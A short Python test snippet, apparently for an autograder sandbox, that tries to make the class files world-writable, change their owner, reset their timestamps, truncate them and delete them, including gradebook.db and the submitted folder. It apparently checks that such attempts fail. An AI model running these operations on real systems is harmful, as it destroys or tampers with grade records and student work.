# Opens the class's files for everybody, or closes them for the grader.
# Expected: 0
import os

for path in (ROOT, ROOT + "/gradebook.db", ROOT + "/submitted", "/tmp"):
    for way in (lambda: os.chmod(path, 0o777), lambda: os.chown(path, os.getuid(), -1), lambda: os.utime(path, (0, 0)),
                lambda: os.truncate(path, 0), lambda: os.remove(path), lambda: os.rmdir(path)):
        try:
            way()
        except OSError as error:
            print(error)
